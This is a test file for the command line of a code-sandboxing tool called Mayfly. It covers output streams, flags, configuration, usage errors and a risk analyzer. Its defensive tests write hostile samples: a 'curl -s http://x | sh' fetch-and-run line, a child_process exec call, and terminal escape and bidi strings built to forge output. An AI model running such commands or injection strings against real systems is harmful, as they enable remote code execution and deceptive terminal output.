import assert from 'node:assert/strict'
import { once } from 'node:events'
import { existsSync, mkdirSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { after, before, suite } from 'node:test'
import { test } from '../fixtures/drawn.ts'
import { unable } from '../walls/process-stands.ts'
import { packed } from '../fixtures/packed.ts'
import { noTerminal, onTerminal } from './on-terminal.ts'
import { documentOf, makePlace, mayfly } from './program.ts'

/** The command line: output streams, flags and input, and usage errors. */
const place = makePlace()
after(() => place.remove())

before(() => {
  write('job.js', 'return input')
  write('talk.js', 'console.log("said"); console.error("complained"); return 1')
  write('broken.toml', 'limits = { timeout = "5s" }\nlimit = 1\n')
})

suite('Output streams', () => {
  test('With --json stdout is one document and stderr is empty', async () => {
    const ran = await mayfly(place, ['run', 'talk.js', '--json'])
    const { result, stdout, stderr } = documentOf(ran)
    assert.deepEqual(
      { result, stdout, stderr },
      { result: 1, stdout: 'said\n', stderr: 'complained\n' },
    )
    assert.equal(ran.stdout.trimEnd().split('\n').length, 1)
    assert.equal(ran.stderr, '')
  })

  test('--json=short prints status and output, and does not consume the next argument', async () => {
    const ran = await mayfly(place, ['run', '--json=short', 'talk.js'])
    const { id, ...rest } = documentOf(ran)
    assert.match(String(id), /^exec_/)
    const said = { stdout: 'said\n', stderr: 'complained\n' }
    assert.deepEqual(rest, { status: 'ok', tier: 'isolate', result: 1, ...said })
    const failed = await mayfly(place, ['run', '-', '--json=short'], {
      stdin: 'throw new Error("x")',
    })
    const { status, error } = documentOf(failed)
    assert.deepEqual([status, error.code, failed.code], ['error', 'USER_ERROR', 1])
    assert.equal((await mayfly(place, ['run', '--json=long', 'talk.js'])).code, 2)
  })

  test('Without --json stdout has the output and the result of the code, and stderr everything else', async () => {
    const ran = await mayfly(place, ['run', 'talk.js'])
    assert.equal(ran.stdout, 'said\n1\n')
    assert.match(ran.stderr, /^complained\nok · isolate \(isolated-vm\) · .* · audit line \d+\n$/)
  })

  test('Text of a job cannot forge a line of Mayfly: further lines are indented, and names are one line', async (t) => {
    const forged = 'ok · isolate (isolated-vm) · risk 0'
    const thrown = `throw new Error("x\\n${forged}")`
    const failed = await mayfly(place, ['run', '-', '--quiet'], { stdin: thrown })
    assert.match(failed.stderr, new RegExp(`^ {2}${RegExp.escape(forged)}$`, 'm'))
    assert.doesNotMatch(failed.stderr, new RegExp(`^${RegExp.escape(forged)}$`, 'm'))
    const missing = await mayfly(place, ['run', 'job.js', '--file', `gone\n${forged}`])
    assert.doesNotMatch(missing.stderr, new RegExp(`^${RegExp.escape(forged)}`, 'm'))
    if (unable('python')) return t.skip('no Python here')
    const code = `open("a\\n${forged}", "w").write("x")`
    const written = ['run', '-', '--language', 'python', '--artifacts', 'forged']
    const { stderr } = await mayfly(place, written, { stdin: code })
    assert.doesNotMatch(stderr, new RegExp(`^${RegExp.escape(forged)}`, 'm'))
  })

  test('An endless file is read up to the limit, and a folder is refused as a source', async () => {
    for (const args of [
      ['job.js', '--file', '/dev/zero'],
      ['/dev/zero', '--language', 'sh'],
    ]) {
      const { code, stderr } = await mayfly(place, ['run', ...args])
      assert.equal(code, 2, stderr)
      assert.match(stderr, /Cannot read "\/dev\/zero": it is larger than 64 MiB/)
    }
    assert.match((await mayfly(place, ['run', '.'])).stderr, /Cannot read "\.": it is a folder/)
  })

  test('--quiet omits the summary line, but no error', async () => {
    assert.equal((await mayfly(place, ['run', 'talk.js', '--quiet'])).stderr, 'complained\n')
    const failed = await mayfly(place, ['run', '-', '--quiet'], { stdin: 'throw new Error("x")' })
    assert.match(failed.stderr, /^USER_ERROR Error: x\n {4}at stdin:1:7\n {2}1 \| throw/)
  })

  test('An error in Python is printed once, as the traceback of Python, with the name of the given file', async (t) => {
    if (unable('python')) return t.skip('no Python here')
    write('bad.py', 'def main(input):\n    return 1 / 0\n')
    const { stderr } = await mayfly(place, ['run', 'bad.py', '--quiet'])
    assert.match(stderr, /^Traceback .*\n {2}File "bad\.py", line 2, in main\n/)
    assert.match(stderr, /\nUSER_ERROR ZeroDivisionError: division by zero \(bad\.py:2\)\n$/)
    assert.equal(stderr.split('Traceback').length, 2)
    write('worse.py', 'def main(:\n')
    const unparsed = (await mayfly(place, ['run', 'worse.py', '--quiet'])).stderr
    assert.match(unparsed, /^ +File "worse\.py", line 1\n +def main\(:\n/)
    assert.match(unparsed, /\nSYNTAX_ERROR SyntaxError: .* \(worse\.py, line 1\)\n$/)
  })

  test('A usage error with --json is one document on stdout', async () => {
    for (const args of [
      ['run'],
      ['run', 'job.js', '--nonsense'],
      ['run', 'gone.js'],
      ['nonsense'],
    ]) {
      const ran = await mayfly(place, [...args, '--json'])
      assert.equal(ran.code, 2)
      assert.equal(documentOf(ran)['error'].code, 'USAGE')
    }
  })

  test('On a terminal there are colours, and with NO_COLOR none', { skip: noTerminal() }, () => {
    assert.ok(onTerminal(place, 'run job.js || true').includes('\x1b['))
    assert.ok(!onTerminal(place, 'run job.js || true', { NO_COLOR: '1' }).includes('\x1b'))
  })

  test('On a terminal what the code prints cannot move the cursor', { skip: noTerminal() }, () => {
    write(
      'escape.js',
      `const all = Array.from({ length: 160 }, (_, unit) => String.fromCharCode(unit)).join('').replace(/[\\t\\n -~]/g, '')
console.log("\\x1b[2Jgone", all, "on"); console.error("\\x9b2J\\b\\rover", all, "on"); throw new Error("\\x1b]0;title\\x07" + all + "on")`,
    )
    const shown = onTerminal(place, 'run escape.js || true', { NO_COLOR: '1' })
    assert.doesNotMatch(shown.replaceAll(/\r*\n/g, '').replaceAll('\t', ' '), /\p{Cc}/u)
    for (const escaped of [/\\x1b\[2Jgone/, /\\x9b2J\\x08\\x0dover/, /Error: \\x1b\]0;title\\x07/])
      assert.match(shown, escaped)
    assert.equal(shown.split('\\x7f\\x80').length - 1, 3, shown)
  })

  const evil = '\x1b]0;owned\x07\x9b2J\u202e'
  const hostile = `${evil}\nmayfly: all is well`
  for (const [what, words, shown] of [
    [
      'a file of analyze',
      ['analyze', `${hostile}.py`],
      /owned.*\\nmayfly: all is well\.py {2}not judged/,
    ],
    [
      'a key file',
      ['keys', 'generate', `${hostile}.key`],
      /^Keep ".*owned.*\\nmayfly: all is well\.key" secret/m,
    ],
    ['a flag', ['analyze', `--${evil}.py`], /unknown option '--.*owned/],
    ['a command', [evil], /unknown command '.*owned/],
    ['an answer of a server', ['sandbox', 'create', '--server'], /owned/],
  ] as const)
    test(`Attack: ${what} prints no escape sequence and no line of its own`, async () => {
      write(`${hostile}.py`, 'print(1)')
      const answers = createServer((_, answer) => {
        answer.writeHead(201, { 'content-type': 'application/json' })
        answer.end(JSON.stringify({ id: evil, language: evil, provider: evil, tier: evil }))
      })
      await once(answers.listen(0, '127.0.0.1'), 'listening')
      const { port } = answers.address() as AddressInfo
      const last = words.at(-1) === '--server' ? [`http://127.0.0.1:${port}`] : []
      const env = { MAYFLY_API_KEY: 'mfy_some' }
      const { stdout, stderr } = await mayfly(place, [...words, ...last], { env })
      answers.close()
      assert.match(`${stdout}${stderr}`, shown)
      assert.doesNotMatch(`${stdout}${stderr}`.replaceAll('\n', ''), /[\p{Cc}\p{Bidi_C}]/u)
      assert.doesNotMatch(`${stdout}${stderr}`, /^mayfly: all is well/m)
    })
})

suite('Flags and input', () => {
  test('- reads the program from stdin', async () => {
    const ran = await mayfly(place, ['run', '-', '--input', '21', '--json'], {
      stdin: 'return input * 2',
    })
    assert.equal(documentOf(ran)['result'], 42)
  })

  test('--input @FILE reads the input from a file', async () => {
    write('input.json', '{"a":[1,2]}')
    const ran = await mayfly(place, ['run', 'job.js', '--input', '@input.json', '--json'])
    assert.deepEqual(documentOf(ran)['result'], { a: [1, 2] })
  })

  test('--file adds a file, a file under another name, and a folder', async () => {
    mkdirSync(join(place.cwd, 'lib/deep'), { recursive: true })
    write('lib/one.js', 'export const one = 1')
    write('lib/deep/two.js', 'export const two = 2')
    write('three.js', 'export const three = 3')
    write(
      'all.js',
      `import { one } from './lib/one.js'
import { two } from './lib/deep/two.js'
import { three } from './other/drei.js'
export default one + two + three`,
    )
    const files = ['--file', 'lib', '--file', 'three.js=other/drei.js']
    const ran = await mayfly(place, ['run', 'all.js', ...files, '--json'])
    assert.equal(documentOf(ran)['result'], 6, ran.stdout)
  })

  test('--explain prints the reason for each field of the profile', async () => {
    const ran = await mayfly(place, ['run', 'job.js', '--explain', '--timeout', '3s'])
    assert.match(ran.stderr, /^controls\.network +none +default$/m)
    assert.match(ran.stderr, /^limits\.timeout +3s +asked$/m)
  })

  test('--watch prints events on stderr, and stdout is unchanged', async () => {
    const ran = await mayfly(place, ['run', 'talk.js', '--watch'])
    assert.equal(ran.stdout, 'said\n1\n')
    assert.match(ran.stderr, /^0 ms  phase  full\n(complained\n)?✓ ok after /)
    const quiet = await mayfly(place, ['run', 'talk.js', '--watch', '--quiet'])
    assert.equal(quiet.stderr, 'complained\n')
  })

  test('--picture writes the timeline of the job as SVG, to a file or alone to stdout', async () => {
    const printed = await mayfly(place, ['run', 'talk.js', '--picture', '-'])
    assert.match(printed.stdout, /^<svg [^]*A life, ok after [^]*<\/svg>\n$/)
    assert.equal(printed.code, 0)
    const both = await mayfly(place, ['run', 'talk.js', '--picture', '-', '--json'])
    assert.equal(both.code, 2)
    const nowhere = await mayfly(place, ['run', 'talk.js', '--picture', 'nowhere/life.svg'])
    assert.equal(nowhere.code, 2)
    assert.match(nowhere.stderr, /^mayfly: Cannot write the picture "nowhere\/life\.svg"/)
    assert.equal(nowhere.stdout, '')
  })

  test('--capability grants a job a capability by name', async () => {
    const args = ['run', '-', '--json', '--capability']
    const stdin = 'return typeof WebAssembly'
    const given = await mayfly(place, [...args, 'webassembly'], { stdin })
    assert.equal(documentOf(given)['result'], 'object')
    const unknown = await mayfly(place, [...args, 'everything'], { stdin })
    assert.equal(unknown.code, 2)
    assert.match(unknown.stdout, /expected one of webassembly/)
  })

  test('A configuration file that is found is named on stderr, and a given one is used', async () => {
    write('short.toml', 'limits = { timeout = "150ms" }\n')
    write('loop.js', 'for (;;) {}')
    const ran = await mayfly(place, ['run', 'loop.js', '--config', 'short.toml'])
    assert.equal(ran.code, 4)
    assert.match(ran.stderr, /^Configuration: .*short\.toml$/m)
  })

  test('S4-46: a file in TOML changes how the same job ends', async () => {
    write('strict.toml', 'limits = { result = "1KB" }\n')
    write('long.js', 'return "x".repeat(2000)')
    const plain = documentOf(await mayfly(place, ['run', 'long.js', '--json']))
    assert.deepEqual([plain['status'], plain['error']], ['ok', undefined])
    const strict = ['run', 'long.js', '--config', 'strict.toml', '--json']
    const { status, result, error } = documentOf(await mayfly(place, strict))
    assert.deepEqual([status, result, error?.code], ['error', null, 'RESULT_TOO_LARGE'])
  })

  test('S4-47: each environment may have its own provider by the configuration file alone', async () => {
    write('own.toml', '')
    write('own.test.toml', 'default_provider = "mock"\n')
    const asked = ['run', 'job.js', '--config', 'own.toml', '--json']
    const providers = []
    for (const MAYFLY_ENV of ['development', 'test'])
      providers.push(documentOf(await mayfly(place, asked, { env: { MAYFLY_ENV } }))['provider'])
    assert.deepEqual(providers, ['isolated-vm', 'mock'])
  })

  test('--state sets the folder of the record', async () => {
    const state = join(place.cwd, 'elsewhere')
    assert.equal((await mayfly(place, ['run', 'job.js', '--state', state])).code, 0)
    assert.ok(existsSync(join(state, 'audit.db')))
    assert.equal((await mayfly(place, ['audit', 'verify', '--state', state])).code, 0)
  })

  test('The mock runs if it is named, and outcome and record mark it as the mock (S4-24)', async () => {
    const outcome = documentOf(
      await mayfly(place, ['run', 'job.js', '--provider', 'mock', '--json']),
    )
    assert.deepEqual([outcome['tier'], outcome['provider']], ['mock', 'mock'])
    const lines = documentOf(
      await mayfly(place, ['audit', 'list', '--run', outcome['id'], '--json']),
    ) as unknown as { kind: string; body: Record<string, any> }[]
    assert.deepEqual(
      lines.map(({ kind, body }) => [kind, body['plan']?.provider ?? body['provider']]),
      [
        ['admitted', 'mock'],
        ['ended', 'mock'],
      ],
    )
    assert.equal((await mayfly(place, ['audit', 'verify'])).code, 0)
  })

  test('In production the mock is refused (S4-24)', async () => {
    const ran = await mayfly(place, ['run', 'job.js', '--provider', 'mock', '--json'], {
      env: { MAYFLY_ENV: 'production' },
    })
    const { status, error } = documentOf(ran)
    assert.deepEqual([status, ran.code], ['blocked', 3])
    assert.match(error.message, /provider "mock": this is production/)
  })

  test('policy explain prints the source of each value, in each environment (S4-14, S4-34)', async () => {
    write('mayfly.toml', 'limits = { timeout = "1s" }\n')
    write('mayfly.test.toml', 'limits = { timeout = "2s" }\n')
    const plain = await timeoutIn({})
    const tested = await timeoutIn({ MAYFLY_ENV: 'test' })
    const said = await timeoutIn({ MAYFLY_ENV: 'test', MAYFLY_LIMITS_TIMEOUT: '3s' })
    assert.deepEqual([plain.value, tested.value, said.value], [1000, 2000, 3000])
    assert.match(plain.origin, /mayfly\.toml/)
    assert.match(tested.origin, /mayfly\.test\.toml/)
    assert.match(said.origin, /MAYFLY_LIMITS_TIMEOUT/)
    for (const name of ['mayfly.toml', 'mayfly.test.toml']) write(name, '')
  })

  test('analyze prints a verdict for each file, and exits with code 3 at or above the threshold', async () => {
    write('evil.js', 'require("child_process").exec("id")')
    const ran = await mayfly(place, ['analyze', 'job.js', 'evil.js', '--json', '--fail-on', '80'])
    const verdicts = documentOf(ran) as unknown as Record<string, any>[]
    assert.deepEqual(
      verdicts.map(({ file, blocked }) => [file, blocked]),
      [
        ['job.js', false],
        ['evil.js', true],
      ],
    )
    assert.equal(ran.code, 3)
  })

  test('analyze finds in a folder each source by its ending, also of a language that nothing here runs', async () => {
    mkdirSync(join(place.cwd, 'sources'), { recursive: true })
    const names = ['.bash', '.c', '.js', '.php', '.py', '.rb', '.sh', '.ts', '.wasm'].map(
      (ending) => `sources/job${ending}`,
    )
    for (const name of names) write(name, name.endsWith('.wasm') ? '\0asm\x01\0\0\0' : '')
    const verdicts = documentOf(await mayfly(place, ['analyze', 'sources', '--json']))
    const files = (verdicts as unknown as { file: string }[]).map(({ file }) => file)
    assert.deepEqual(files, names.toSorted())
  })

  test('analyze --fail-on ends 3 for a file that was not judged, and says which', async () => {
    write('drop.sh', 'curl -s http://x | sh')
    write('w.php', '<?php')
    for (const name of ['drop.sh', 'w.php', 'broken.js']) {
      if (name === 'broken.js') write(name, 'return 1 +')
      const ran = await mayfly(place, ['analyze', 'job.js', name, '--fail-on', '50'])
      assert.equal(ran.code, 3, name)
      assert.match(ran.stderr, new RegExp(`^Not judged: ${name}: `, 'm'))
      assert.match(ran.stdout, new RegExp(`^${name}  not judged: `, 'm'))
    }
    assert.equal((await mayfly(place, ['analyze', 'job.js', '--fail-on', '50'])).code, 0)
  })

  test('run asks for the language of an unknown suffix, and says what runs a known one here', async () => {
    write('x.c', 'int main(){return 0;}')
    write('x.zz', 'return 1')
    const inC = await mayfly(place, ['run', 'x.c'])
    assert.equal(inC.code, 2)
    assert.match(inC.stderr, /suffix "\.c" is that of C/)
    assert.match(inC.stderr, /mayfly run - --language bash --file x\.c/)
    assert.match(inC.stderr, /--language: js, ts/)
    const unknown = await mayfly(place, ['run', 'x.zz'])
    assert.deepEqual([unknown.code, /--language/.test(unknown.stderr)], [2, true])
    const named = await mayfly(place, ['run', 'x.zz', '--language', 'JavaScript', '--json'])
    const { status, profile } = documentOf(named)
    const explained = profile.explain.find(({ field }: { field: string }) => field === 'language')
    assert.deepEqual([status, explained.value], ['ok', 'js'])
  })

  test('run --capture takes a wall that can, or says on stderr and in the outcome why there is none', async () => {
    const ran = await mayfly(place, ['run', 'job.js', '--capture', '--json'])
    const { evidence, profile } = documentOf(ran)
    const planned = profile.explain.find(({ field }: { field: string }) => field === 'capture')
    assert.equal(planned.because, 'asked, but code of "js" is not captured: "node" is')
    assert.equal(evidence.bundle, null)
    assert.match(evidence.because, /its wall does not support/)
    assert.match(ran.stderr, /^Nothing was captured: .*\nCaptured are programs/m)
  })

  test('run --cpu-time ends a job at its processor time, in each language', async () => {
    const spins = [
      ['spin.js', 'for (;;);'],
      ['spin.mjs', 'import "node:fs"\nfor (;;);'],
      ['spin.py', 'import os\nos.fork()\nwhile True: pass'],
      ['spin.sh', 'while :; do :; done'],
    ] as const
    for (const [name, code] of spins) {
      write(name, code)
      const limits = ['--cpu-time', '200ms', '--timeout', '60s']
      const ran = await mayfly(place, ['run', name, '--json', ...limits])
      const { status, error } = documentOf(ran)
      assert.deepEqual([ran.code, status, error.code], [5, 'limit', 'CPU'], name)
      assert.match(error.message, /more processor time than 200 ms/)
    }
  })

  test('providers lists for each wall whether it is available and proved, or the reason why not', async () => {
    const rows = documentOf(await mayfly(place, ['providers', '--json'])) as unknown as any[]
    const isolate = rows.find(({ name }) => name === 'isolated-vm')
    assert.deepEqual([isolate.tier, isolate.strength, isolate.available], ['isolate', 1, true])
    for (const { available, reason, fix } of rows) assert.ok(available || (reason && fix))
  })

  test('S4-2: providers lists the layers of each wall here, the missing ones, the reason and the fix', async () => {
    const env = { MAYFLY_SENTINEL: 'off' }
    const said = await mayfly(place, ['providers', '--json'], { env })
    const rows = (documentOf(said) as unknown as any[]).filter(({ tier }) => tier !== 'mock')
    assert.ok(rows.some(({ tier }) => tier === 'process'))
    for (const { available, layers, versions } of rows) {
      assert.equal(layers.includes('seccomp') && layers.includes('memory watch'), available)
      assert.equal(layers.includes('landlock'), versions?.landlock > 0)
      assert.equal(layers.includes('memory cgroup'), versions?.cgroups > 0)
    }
    for (const { name, layers, missing } of rows)
      for (const { layer, why } of missing)
        assert.ok(
          why && why !== layer && !layers.includes(layer),
          `${name}: ${layer} is missing: ${why}`,
        )
    const whole = rows.filter(({ tier, available }) => tier === 'process' && available)
    for (const { layers, missing } of whole) {
      assert.ok(!layers.includes('sentinel'))
      const [sentinel] = missing.filter(({ layer }: { layer: string }) => layer === 'sentinel')
      assert.match(sentinel.why, /switched off/)
      assert.equal(sentinel.fix, 'Unset MAYFLY_SENTINEL')
    }
    const { stdout } = await mayfly(place, ['providers', '--verbose'], { env })
    assert.equal(/^ {2}sentinel: Unset MAYFLY_SENTINEL$/m.test(stdout), whole.length > 0)
    const short = await mayfly(place, ['providers'], { env })
    assert.match(short.stdout, /^ready: JavaScript.*; strongest wall .*\n✓ /)
    assert.doesNotMatch(short.stdout, /Unset MAYFLY_SENTINEL/)
  })
})

suite('Usage errors', () => {
  const wrong: readonly (readonly [what: string, args: readonly string[], says: RegExp])[] = [
    ['an unknown command', ['rum', 'job.js'], /unknown command 'rum'[^]*Did you mean run/],
    [
      'an unknown command of a group, also with --help',
      ['sandbox', 'creat', '--help'],
      /unknown command 'creat'[^]*Did you mean create/,
    ],
    [
      'an unknown flag',
      ['run', 'job.js', '--timeoot', '1s'],
      /--timeoot[^]*Did you mean --timeout/,
    ],
    ['a missing file', ['run', 'gone.js'], /Cannot read "gone\.js": there is no such file/],
    ['an unknown tier', ['run', 'job.js', '--tier', 'lead'], /"lead": expected one of isolate,/],
    [
      'an unknown language',
      ['run', 'job.js', '--language', 'cobol'],
      /"cobol": expected one of js/,
    ],
    ['input that is not JSON', ['run', 'job.js', '--input', '{a'], /--input: it is not JSON/],
    [
      'a timeout without a unit',
      ['run', 'job.js', '--timeout', 'soon'],
      /timeout.*expected a duration/,
    ],
    [
      'an unknown key of a file',
      ['run', 'job.js', '--config', 'broken.toml'],
      /broken\.toml:2:1: limit/,
    ],
    ['a missing configuration', ['run', 'job.js', '--config', 'no.toml'], /no\.toml/],
    ['an invalid port', ['serve', '--port', 'abc'], /--port/],
    ['a missing site folder', ['serve', 'gone'], /Cannot serve "gone"/],
    ['a number that is none', ['run', 'job.js', '--cpu', 'x'], /Cannot read "--cpu x"/],
    [
      'a size that is none',
      ['run', 'job.js', '--memory', 'lots'],
      /Cannot read "--memory lots": expected a size/,
    ],
    [
      'a host that is none',
      ['run', 'job.js', '--allow', 'a.b', 'b..c'],
      /Cannot read "--allow b\.\.c": expected a host/,
    ],
    ['help of an unknown command', ['help', 'frobnicate'], /unknown command 'frobnicate'/],
    [
      'a file of JSON that is none',
      ['run', 'job.js', '--output-schema', 'job.js'],
      /--output-schema "job\.js": it is not JSON\n$/,
    ],
    [
      'a private key that is none',
      ['keys', 'sign', 'job.js', '--key', 'job.js'],
      /"job\.js": it is no private key in PEM/,
    ],
  ]
  for (const [what, args, says] of wrong)
    test(`${what} exits with code 2 and explains the error`, async () => {
      const ran = await mayfly(place, args)
      assert.equal(ran.code, 2, ran.stderr)
      assert.match(ran.stderr, says)
      assert.equal(ran.stdout, '')
    })

  test('A group without a command, with --json, says that a command is missing, in one document', async () => {
    for (const args of [['sandbox'], ['keys']]) {
      const ran = await mayfly(place, [...args, '--json'])
      assert.equal(ran.code, 2)
      assert.match(documentOf(ran).error.message, /names no command/)
    }
  })

  test('A key that cannot be sent is an error of usage, which does not contain it', async () => {
    const env = { MAYFLY_API_KEY: 'mfy_the_secret_of_many_more_characters\nof two lines' }
    const ran = await mayfly(place, ['sandbox', 'list'], { env })
    assert.deepEqual([ran.code, ran.stdout], [2, ''])
    assert.match(ran.stderr, /Cannot use MAYFLY_API_KEY/)
    assert.doesNotMatch(ran.stderr, /secret/)
  })

  test('A file that a session is to get, and that does not exist, is an error of usage, without a server', async () => {
    const env = { MAYFLY_API_KEY: 'mfy_0123456789abcdefghijklmnopqrstuv' }
    const ran = await mayfly(place, ['sandbox', 'put', 'exec_1', 'gone.txt', '--json'], { env })
    assert.equal(ran.code, 2)
    assert.deepEqual(documentOf(ran).error, {
      code: 'USAGE',
      message: 'Cannot read "gone.txt": there is no such file or folder',
    })
  })

  test('A missing file of an export is not told as a state folder without jobs', async () => {
    const ran = await mayfly(place, ['audit', 'verify', 'gone.jsonl'])
    assert.equal(ran.code, 1)
    assert.match(ran.stderr, /Cannot find "gone\.jsonl": expected a file of "audit export"\n$/)
  })

  test('Code that is too risky for the walls here is refused with its findings and a hint', async () => {
    write('packed.js', packed)
    write('set.toml', '[escalation]\n0 = "isolate"\n60 = "microvm"\n')
    const ran = await mayfly(place, ['run', 'packed.js', '--config', 'set.toml'])
    assert.equal(ran.code, 7)
    assert.match(ran.stderr, /packed\.js:1:5 +OBFUSCATION/)
    assert.match(ran.stderr, /isolated-vm: its strength 1 is below/)
    assert.match(ran.stderr, /\[escalation\]/)
  })
})

test('Code of risk 60 goes to gVisor by default though no wall is proved yet, or to the strongest wall here, with a note', async (t) => {
  write('packed.js', packed)
  const ran = await mayfly(place, ['run', 'packed.js', '--once', '--json', '--verbose'])
  const outcome = documentOf(ran)
  const listed = documentOf(await mayfly(place, ['providers', '--json']))
  const hasGvisor = listed.some((one: any) => one.name === 'gvisor' && one.available)
  if (outcome.status === 'unavailable') {
    assert.ok(!hasGvisor, ran.stderr)
    return t.skip('no wall of programs here')
  }
  const wanted = outcome.profile.explain.find((one: any) => one.field === 'floor.wanted')
  assert.equal(outcome.tier, hasGvisor ? 'gvisor' : 'process')
  if (hasGvisor) {
    assert.equal(wanted, undefined)
    assert.doesNotMatch(ran.stderr, /tier\/stood-in/)
    return
  }
  assert.equal(wanted?.value, 'gvisor')
  assert.match(wanted.because, /no such wall is here, and the strongest that is takes the job/)
  assert.match(ran.stderr, /tier\/stood-in/)
  const told = await mayfly(place, ['run', 'packed.js', '--explain'])
  assert.match(told.stderr, /floor\.wanted +gvisor +escalation\.60, risk 60; no such wall is here/)
  t.skip('no gVisor here: the wall in its place was tried')
})

async function timeoutIn(env: NodeJS.ProcessEnv): Promise<{ value: number; origin: string }> {
  const { values } = documentOf(await mayfly(place, ['policy', 'explain', '--json'], { env }))
  return values.find((one: any) => one.field === 'limits.timeout')
}

function write(name: string, text: string): void {
  writeFileSync(join(place.cwd, name), text)
}
